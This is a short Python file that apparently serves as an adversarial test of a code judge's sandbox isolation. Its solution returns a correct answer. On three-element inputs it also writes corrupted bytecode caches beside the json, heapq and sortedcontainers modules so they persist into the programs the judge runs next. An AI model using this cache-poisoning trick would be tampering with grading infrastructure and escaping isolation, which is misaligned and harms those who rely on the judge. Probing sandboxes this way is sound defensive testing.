# tries: to leave bytecode of its own beside the modules that the next program imports
# verdict: AC
# within: 3.0
import importlib.util
import os
import py_compile
from itertools import accumulate


def poison(module):
    origin = importlib.util.find_spec(module).origin
    cached = importlib.util.cache_from_source(origin).replace(module, "judge-hostile")
    try:
        os.makedirs(os.path.dirname(cached), exist_ok=True)
        print("HOLE: poisoned", py_compile.compile(origin, cached, doraise=True))
        with open(cached, "wb") as file:
            file.write(importlib.util.MAGIC_NUMBER + bytes(12))
    except OSError:
        return


class Solution:
    def solve(self, nums, key):
        if len(nums) == 3:
            for module in ("json", "heapq", "sortedcontainers"):
                poison(module)
        return [total ^ key for total in accumulate(nums)]
